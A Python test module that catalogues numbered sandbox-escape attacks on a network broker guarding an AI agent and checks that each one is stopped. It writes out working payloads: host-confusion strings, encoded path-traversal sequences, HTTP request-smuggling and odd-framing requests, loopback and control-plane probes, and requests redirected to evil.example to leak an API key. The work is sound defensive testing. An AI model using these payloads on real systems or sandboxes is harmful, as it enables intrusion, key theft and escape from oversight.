"""Attacks on the broker, each with the control that must stop it and a weakened broker in which it succeeds.

``CATALOGUE`` holds them with their numbers in the catalogue of sandbox attacks. :func:`judge` opens a real lease in
front of a canary on the loopback and attempts the attack twice: with every protection (the canary's own private
address excepted where a granted host is wanted), and with those of ``weakens`` off. Reached in the first:
escaped. Not reached in the second: the attack proves nothing and is inconclusive.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum

from orchestrator.broker.attack_scene import CANARY_KEY, HOST, OPEN_KIB, OTHER, Target, scene
from orchestrator.broker.setup import RELAY, Protection

_REBOUND = frozenset({Protection.ADDRESSES})
_PARSED = (
    f"{OTHER}%00.{HOST}",
    f"{OTHER}#.{HOST}",
    f"{OTHER}/.{HOST}",
    f"{OTHER}\\.{HOST}",
    f"{HOST}@{OTHER}",
    f"evil{HOST}",
    f"{HOST}.{OTHER}",
    f"x.{HOST}",
    f"{HOST}.",
    "2130706433",
    "0x7f.1",
    "[::1]",
    "localhost",
)
_HOSTED: tuple[dict[str, object], ...] = (
    {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"tools": [{"type": "a_tool_of_tomorrow", "name": "x"}]},
    {"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]},
    {
        "messages": [
            {"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example"}}]}
        ]
    },
)
_TWO_READINGS = (
    "..;/stolen",
    "..;x=1/stolen",
    "..%3b/stolen",
    "%2e%2e/stolen",
    "%252e%252e/stolen",
    "..%2fstolen",
    "..%255cstolen",
    "..%c0%afstolen",
    "%c0%ae%c0%ae/stolen",
    "%ef%bc%8e%ef%bc%8e/stolen",
    "..%e0%80%afstolen",
)
_CONTROL_PLANE = ("/", "/lease", "/close", "/runs", "/approve", "/containers/json", "/_ping", "/anthropic/v1/models")


class Verdict(StrEnum):
    HELD = "held"
    ESCAPED = "escaped"
    INCONCLUSIVE = "inconclusive"


def model_request(token: str, host: str = RELAY, more: str = "", body: bytes = b"") -> bytes:
    """A well-formed model request, or one that is spoilt by ``more``."""
    body = body or json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
    head = f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: {host}\r\nx-api-key: {token}\r\n"
    return head.encode() + (more or f"Content-Length: {len(body)}\r\n").encode() + b"\r\n" + body


def rebinds(target: Target) -> bool:
    """34: a granted name whose address is the machine itself."""
    target.through(f"GET /open HTTP/1.1\r\nHost: {HOST}:{target.canary.tls_port}\r\n\r\n".encode())
    return bool(target.canary.requests)


def confuses_hosts(target: Target) -> bool:
    """35: names that a careless reader takes for a granted one."""
    authorities = [f"{name}:{target.canary.tls_port}" for name in _PARSED]
    return any(target.exchange(target.tunnel(a)).startswith(b"HTTP/1.1 200") for a in authorities)


def fronts(target: Target) -> bool:
    """36: a granted name outside, another one within."""
    target.through(f"GET /open HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
    return any(OTHER.encode() in request for request in target.canary.requests)


def uploads(target: Target) -> bool:
    """37: a method and a path of a granted host that are not granted."""
    host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
    target.through(f"POST /open HTTP/1.1\r\n{host}Content-Length: 6\r\n\r\nstolen".encode())
    target.through(f"GET /open/../stolen HTTP/1.1\r\n{host}\r\n".encode())
    target.through(f"GET /stolen HTTP/1.1\r\n{host}\r\n".encode())
    return bool(target.canary.requests)


def walks_out(target: Target) -> bool:
    """74: paths below a granted one for a plain reader, and outside it for a server that reads them its own way."""
    host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
    for path in _TWO_READINGS:
        target.through(f"GET /open/{path} HTTP/1.1\r\n{host}\r\n".encode())
    return bool(target.canary.requests)


def frames_oddly(target: Target) -> bool:
    """75: chunks, lengths, lines and versions that a second reader could take otherwise, and other protocols."""
    body = json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
    size = len(body)
    chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (size, body)
    twice = f"Content-Length: {size}\r\nContent-Length: {size}\r\n"
    odd = [model_request(target.token, more=twice, body=body)]
    odd += [
        model_request(target.token, more=f"Content-Length: {n}\r\n", body=body) for n in (f"+{size}", f"{size}, {size}")
    ]
    for coding in ("xchunked", "chunked, identity", "identity, chunked", "\r\n chunked"):
        odd.append(model_request(target.token, more=f"Transfer-Encoding: {coding}\r\n", body=chunks))
    for data in (
        b"0x" + chunks,
        b"-" + chunks,
        b"%x;a=\n\r\n%s\r\n0\r\n\r\n" % (size, body),
        b"f" * 20 + b"\r\n" + body,
    ):
        odd.append(model_request(target.token, more="Transfer-Encoding: chunked\r\n", body=data))
    odd.append(model_request(target.token, body=body).replace(b"\r\n", b"\n"))
    odd.append(model_request(target.token, more=f"X: a\rContent-Length: 0\r\nContent-Length: {size}\r\n", body=body))
    odd.append(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    return any(target.exchange(data).startswith(b"HTTP/1.1 2") for data in odd)


def passes_bytes(target: Target) -> bool:
    """71: more bytes to a granted path than are granted."""
    filler = "x" * (OPEN_KIB + 1) * 1024
    host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
    target.through(f"GET /open?{filler} HTTP/1.1\r\n{host}\r\n".encode())
    return bool(target.canary.requests)


def reaches_loopback(target: Target) -> bool:
    """38: the machine's own ports by their addresses."""
    names = ("127.0.0.1", "localhost", "0.0.0.0")  # noqa: S104  # nosec B104  nothing is bound to it
    tunnels = [target.tunnel(f"{name}:{target.canary.tls_port}") for name in names]
    return any(target.exchange(data).startswith(b"HTTP/1.1 200") for data in tunnels)


def finds_control_plane(target: Target) -> bool:
    """39: anything on the socket that answers somebody without the lease's token."""
    asked = [f"GET {path} HTTP/1.1\r\nHost: {RELAY}\r\n\r\n".encode() for path in _CONTROL_PLANE]
    return any(target.exchange(data).startswith(b"HTTP/1.1 2") for data in asked)


def steals_key(target: Target) -> bool:
    """72: an upstream that sends the key back."""
    return CANARY_KEY.encode() in target.exchange(model_request(target.token))


def redirects_models(target: Target) -> bool:
    """41: a base URL of the repository's choice, as a Host or in the request's target."""
    absolute = model_request(target.token).replace(b"/anthropic", b"http://evil.example/anthropic", 1)
    asked = (model_request(target.token, host="evil.example"), absolute)
    return any(target.exchange(data).startswith(b"HTTP/1.1 200") for data in asked)


def smuggles(target: Target) -> bool:
    """70: one request that two readers cut in different places."""
    body = json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    both = f"Content-Length: {len(chunked)}\r\nTransfer-Encoding: chunked\r\n"
    return target.exchange(model_request(target.token, more=both, body=chunked)).startswith(b"HTTP/1.1 200")


def asks_the_provider(target: Target) -> bool:
    """73: a search, a fetch or a server of its own that the model's provider would run, past the sandbox."""
    for more in _HOSTED:
        body = json.dumps({"model": "m", "max_tokens": 5, "messages": [], **more}).encode()
        if target.exchange(model_request(target.token, body=body)).startswith(b"HTTP/1.1 200"):
            return True
    return False


@dataclass(frozen=True, slots=True)
class Attack:
    """``attempt`` says whether it got what it must not get; ``weakens`` is what is off in the positive control.

    ``kept`` is off in both: the canary has a private address, which is no granted one.
    """

    id: int
    name: str
    control: str
    attempt: Callable[[Target], bool]
    weakens: frozenset[Protection]
    kept: frozenset[Protection] = _REBOUND


def _attack(number: int, name: str, control: str, attempt: Callable[[Target], bool], *off: Protection) -> Attack:
    return Attack(number, name, control, attempt, frozenset(off))


CATALOGUE = (
    Attack(
        34,
        "a granted name whose address is the machine itself",
        "addresses judged after resolving, and pinned",
        rebinds,
        _REBOUND,
        frozenset(),
    ),
    _attack(
        35,
        "names that a careless reader takes for a granted one",
        "strict names",
        confuses_hosts,
        Protection.HOSTS,
        Protection.GRANTS,
    ),
    _attack(
        36, "a granted name outside, another within", "Host equals the tunnel's name", fronts, Protection.SERVER_NAME
    ),
    _attack(
        37,
        "methods and paths that are not granted",
        "methods and paths judged inside TLS",
        uploads,
        Protection.GRANTS,
    ),
    _attack(
        38,
        "the machine's own ports",
        "no addresses, no loopback",
        reaches_loopback,
        Protection.HOSTS,
        Protection.GRANTS,
    ),
    _attack(
        39,
        "a control plane on the broker's socket",
        "there is none, and nothing is answered without the token",
        finds_control_plane,
        Protection.TOKEN,
    ),
    _attack(
        41, "a base URL of the attacker's choice", "the broker chooses the upstream", redirects_models, Protection.HOSTS
    ),
    _attack(70, "one request that two readers cut differently", "one framing a message", smuggles, Protection.FRAMING),
    _attack(71, "more bytes than are granted", "bytes counted for each host", passes_bytes, Protection.BUDGET),
    _attack(
        72,
        "an upstream that sends the key back",
        "keys added outside, masked on the way in",
        steals_key,
        Protection.MASKING,
    ),
    _attack(
        73,
        "tools that the model's provider runs",
        "refused unless the endpoint lists them",
        asks_the_provider,
        Protection.PROVIDER,
    ),
    _attack(
        74,
        "paths that a server reads as others",
        "what can be read in two ways counts as the whole host",
        walks_out,
        Protection.GRANTS,
    ),
    _attack(
        75,
        "odd chunks, lengths, lines and versions",
        "one framing a message, strict heads",
        frames_oddly,
        Protection.FRAMING,
    ),
)


def judge(attack: Attack) -> Verdict:
    """Attempt it on a real lease, then on a weakened one."""
    with scene(attack.kept) as (target, _):
        if attack.attempt(target):
            return Verdict.ESCAPED
    with scene(attack.kept | attack.weakens) as (target, _):
        return Verdict.HELD if attack.attempt(target) else Verdict.INCONCLUSIVE
